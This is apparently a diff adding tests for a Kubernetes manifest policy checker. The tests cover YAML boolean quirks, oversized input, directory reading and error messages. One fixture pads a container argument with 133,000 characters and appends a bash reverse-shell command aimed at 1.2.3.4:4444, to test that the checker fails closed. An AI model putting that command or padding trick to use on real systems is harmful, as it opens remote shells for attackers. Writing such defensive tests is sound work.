@@ -206,6 +206,116 @@ spec:
     expect(r.out).to.contain('1 violation in 1 of 1 resource.');
   });
 
+  it('reads YAML as kubectl does (1.1 booleans, merge keys): privileged: yes is privileged', () => {
+    const pss = file(
+      'pss.yaml',
+      'apiVersion: deployguard.dev/v1alpha1\nkind: ContainerDeploymentPolicy\nmetadata: {name: pss}\nspec: {rules: {podSecurity: {level: baseline}}}\n',
+    );
+    const yes = `apiVersion: v1
+kind: Pod
+metadata: {name: yes-pod}
+spec:
+  hostPID: yes
+  containers: [{name: c, image: x:1, securityContext: {privileged: on}}]
+---
+apiVersion: v1
+kind: Pod
+metadata: {name: merged}
+spec:
+  containers:
+    - name: c
+      image: x:1
+      securityContext:
+        <<: {privileged: true}
+`;
+    const r = cli(['evaluate', '-p', pss, '-f', file('yes.yaml', yes), '-o', 'json']);
+    expect(r.code, r.err).to.equal(1);
+    const found = JSON.parse(r.out).results.map(
+      (x: { resource: { name: string }; rule: string }) => `${x.resource.name} ${x.rule}`,
+    );
+    expect(found).to.include.members([
+      'yes-pod pss.hostNamespaces',
+      'yes-pod pss.privileged',
+      'merged pss.privileged',
+    ]);
+  });
+
+  it('fails closed on padding past the bounds: a 1,025th container, a 130 KiB arg', () => {
+    const many = Array.from({ length: 1025 }, (_, i) => ({ name: `c${i}`, image: 'x:1' }));
+    const pods = [
+      {
+        apiVersion: 'v1',
+        kind: 'Pod',
+        metadata: { name: 'many', namespace: 'prod' },
+        spec: { containers: many },
+      },
+      {
+        apiVersion: 'v1',
+        kind: 'Pod',
+        metadata: { name: 'long', namespace: 'prod' },
+        spec: {
+          containers: [
+            {
+              name: 'c',
+              image: 'x:1',
+              args: ['#'.repeat(133_000) + '; bash -i >& /dev/tcp/1.2.3.4/4444 0>&1'],
+            },
+          ],
+        },
+      },
+    ];
+    const r = cli([
+      'evaluate',
+      '-p',
+      POLICY,
+      '-f',
+      file('ns.yaml', PROD_NS),
+      '-f',
+      file('pad.json', JSON.stringify({ apiVersion: 'v1', kind: 'List', items: pods })),
+      '-o',
+      'json',
+    ]);
+    expect(r.code).to.equal(1);
+    const found = JSON.parse(r.out).results.map(
+      (x: { resource: { name: string }; rule: string; path: string }) =>
+        `${x.resource.name} ${x.rule} ${x.path}`,
+    );
+    expect(found).to.include.members([
+      'many input.oversized spec.containers',
+      'long input.oversized spec.containers[0].args[0]',
+    ]);
+  });
+
+  it('reads a directory of manifests like kubectl apply -f DIR', () => {
+    const d = mkdtempSync(join(dir, 'manifests-'));
+    writeFileSync(join(d, 'a-ns.yaml'), PROD_NS);
+    writeFileSync(
+      join(d, 'b-pod.json'),
+      JSON.stringify({
+        apiVersion: 'v1',
+        kind: 'Pod',
+        metadata: { name: 'x', namespace: 'prod' },
+        spec: {
+          containers: [{ name: 'c', image: 'alpine:3.20' }],
+          volumes: [{ name: 'r', hostPath: { path: '/' } }],
+        },
+      }),
+    );
+    writeFileSync(join(d, 'notes.txt'), 'not a manifest');
+    const r = cli(['evaluate', '-p', POLICY, '-f', d, '-o', 'json']);
+    expect(r.code, r.err).to.equal(1);
+    expect(JSON.parse(r.out).summary).to.deep.equal({ resources: 1, violating: 1, violations: 1 });
+  });
+
+  it('warns about documents it does not judge, typos included', () => {
+    const svc =
+      'apiVersion: v1\nkind: Service\nmetadata: {name: s}\n---\napiVersion: apps/v1\nkind: Deploymnet\nmetadata: {name: d}\n';
+    const r = cli(['evaluate', '-p', POLICY, '-f', file('svc.yaml', svc)]);
+    expect(r.code).to.equal(0);
+    expect(r.err).to.contain('warning: not judged, not a Pod or workload: Service, Deploymnet');
+    expect(r.out).to.contain('No violations in 0 resources.');
+  });
+
   describe('invalid input exits 2 and names file, document and field', () => {
     it('an invalid policy', () => {
       const bad = file(
@@ -240,19 +350,58 @@ spec:
     it('a malformed pod', () => {
       const f = file(
         'badpod.yaml',
-        `${BENIGN}---\napiVersion: v1\nkind: Pod\nmetadata: {name: y}\nspec:\n  containers:\n    - {name: c, image: x, command: sh}\n`,
+        `${BENIGN}---\napiVersion: v1\nkind: Pod\nmetadata: {name: bad}\nspec:\n  containers:\n    - {name: c, image: x, command: sh}\n`,
       );
       const r = cli(['evaluate', '-p', POLICY, '-f', f]);
       expect(r.code).to.equal(2);
-      expect(r.err).to.contain(
-        `${f}: document 1: spec.containers[0].command: must be a list of strings`,
-      );
+      expect(r.err).to.contain(`${f}: document 1: spec.containers[0].command: must be a list`);
     });
     it('broken YAML', () => {
       const f = file('broken.yaml', `${BENIGN}---\nkind: Pod\nmetadata: {name: [unclosed\n`);
       const r = cli(['evaluate', '-p', POLICY, '-f', f]);
       expect(r.code).to.equal(2);
       expect(r.err).to.contain(`${f}: document 1: invalid YAML`);
+    });
+    it('a field of the wrong type, in a workload template, with its path in the workload', () => {
+      const dep =
+        'apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: d}\nspec:\n  template:\n    spec:\n      containers: [{name: c, image: x, securityContext: {privileged: "true"}}]\n';
+      const f = file('badtype.yaml', dep);
+      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
+      expect(r.code).to.equal(2);
+      expect(r.err).to.contain(
+        `${f}: document 0: spec.template.spec.containers[0].securityContext.privileged: must be a boolean`,
+      );
+    });
+    it('an item of a List, named by its position', () => {
+      const list = JSON.stringify({
+        apiVersion: 'v1',
+        kind: 'List',
+        items: [
+          {
+            apiVersion: 'v1',
+            kind: 'Pod',
+            metadata: { name: 'ok' },
+            spec: { containers: [{ name: 'c', image: 'x' }] },
+          },
+          {
+            apiVersion: 'v1',
+            kind: 'Pod',
+            metadata: { name: 'bad' },
+            spec: { containers: [{ name: 'c' }] },
+          },
+        ],
+      });
+      const f = file('list-bad.json', list);
+      const r = cli(['evaluate', '-p', POLICY, '-f', f]);
+      expect(r.code).to.equal(2);
+      expect(r.err).to.contain(
+        `${f}: document 0, item 1: spec.containers[0].image: Required value`,
+      );
+    });
+    it('stdin named twice (it can be read once)', () => {
+      const r = cli(['evaluate', '-p', '-', '-f', '-'], 'anything');
+      expect(r.code).to.equal(2);
+      expect(r.err).to.contain('stdin (-) can be read only once');
     });
     it('a missing file', () => {
       const r = cli(['evaluate', '-p', POLICY, '-f', join(dir, 'nope.yaml')]);
